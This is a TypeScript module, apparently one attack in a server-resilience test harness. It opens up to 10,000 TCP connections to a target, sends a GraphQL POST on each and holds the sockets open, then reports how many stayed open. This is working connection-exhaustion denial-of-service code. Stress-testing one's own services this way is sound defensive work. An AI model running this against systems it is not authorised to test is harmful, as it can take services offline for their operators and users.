import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { AttackResult, VictimRequest } from '../protocol.ts';

const connections = 10_000;
/** Connections without a response yet. More of one address would be refused before they are authenticated. */
const parallel = 60;
const body = '{"query":"{__typename}"}';

/** Opens connections, sends a request on each, and keeps them open. */
export async function openConnections({ url, headers, durationMs }: VictimRequest): Promise<AttackResult> {
  const { host, hostname, port, pathname } = new URL(url);
  const lines = Object.entries({ ...headers, Host: host, 'Content-Length': String(body.length) });
  const request = `POST ${pathname} HTTP/1.1\r\n${lines.map(([name, value]) => `${name}: ${value}`).join('\r\n')}\r\n\r\n${body}`;
  const endMs = performance.now() + durationMs;
  const sockets: Socket[] = [];
  const results: Record<string, number> = {};

  async function openOne(): Promise<void> {
    const socket = connect(Number(port), hostname);
    sockets.push(socket);
    const { promise, resolve } = Promise.withResolvers<string>();
    socket.once('connect', () => socket.write(request)).once('close', () => resolve('closed'));
    socket.on('data', (chunk) => resolve(`status ${String(chunk).slice(9, 12)}`)).on('error', () => {});
    const result = await promise;
    results[result] = (results[result] ?? 0) + 1;
  }

  async function openMany(): Promise<void> {
    while (sockets.length < connections && performance.now() < endMs) await openOne();
  }

  await Promise.all(Array.from({ length: parallel }, openMany));
  await sleep(Math.max(0, endMs - performance.now()));
  return { opened: sockets.length, ...results, open: sockets.filter(({ closed }) => !closed).length };
}
